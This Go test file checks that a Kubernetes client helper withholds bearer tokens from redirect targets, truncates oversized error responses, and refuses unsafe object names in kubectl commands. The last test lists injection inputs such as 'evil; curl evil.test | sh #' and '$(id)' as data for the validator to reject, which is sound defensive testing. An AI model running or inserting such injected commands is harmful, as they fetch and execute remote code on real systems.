// Copyright The entrypointer Authors
// SPDX-License-Identifier: Apache-2.0

package objects_test

import (
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"k8s.io/client-go/rest"

	"github.com/entrypointer/entrypointer/internal/objects"
)

// The API server passes on what a pod responds, and a pod may want the user's token.
func TestARedirectDoesNotGetTheToken(t *testing.T) {
	stolen := ""
	thief := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { stolen = r.Header.Get("Authorization") }))
	defer thief.Close()
	server := httptest.NewServer(http.RedirectHandler(thief.URL, http.StatusFound))
	defer server.Close()
	client, err := objects.NewClient(&rest.Config{Host: server.URL, BearerToken: "secret"}, "tenant")
	require.NoError(t, err)
	_, err = client.REST.Get().AbsPath("/api/v1/namespaces/x/pods/y:9090/proxy/metrics").Stream(t.Context())
	require.Error(t, err)
	require.Empty(t, stolen)
}

func TestALongErrorIsCutOff(t *testing.T) {
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.WriteHeader(http.StatusInternalServerError)
		for range 64 {
			_, _ = w.Write([]byte(strings.Repeat("x", 1<<20)))
		}
	}))
	defer server.Close()
	client, err := objects.NewClient(&rest.Config{Host: server.URL}, "tenant")
	require.NoError(t, err)
	body, err := client.REST.Get().AbsPath("/x").DoRaw(t.Context())
	require.Error(t, err)
	require.LessOrEqual(t, len(body), 1<<20)
}

func TestACommandHasNamesOfObjectsOnly(t *testing.T) {
	require.Equal(t, "kubectl -n team-a get pod web-1", objects.Command("kubectl -n %s get pod %s", "team-a", "web-1"))
	for _, name := range []string{"evil; curl evil.test | sh #", "$(id)", "a\nb", "", "Web"} {
		require.Empty(t, objects.Command("kubectl get pod %s", name))
	}
}
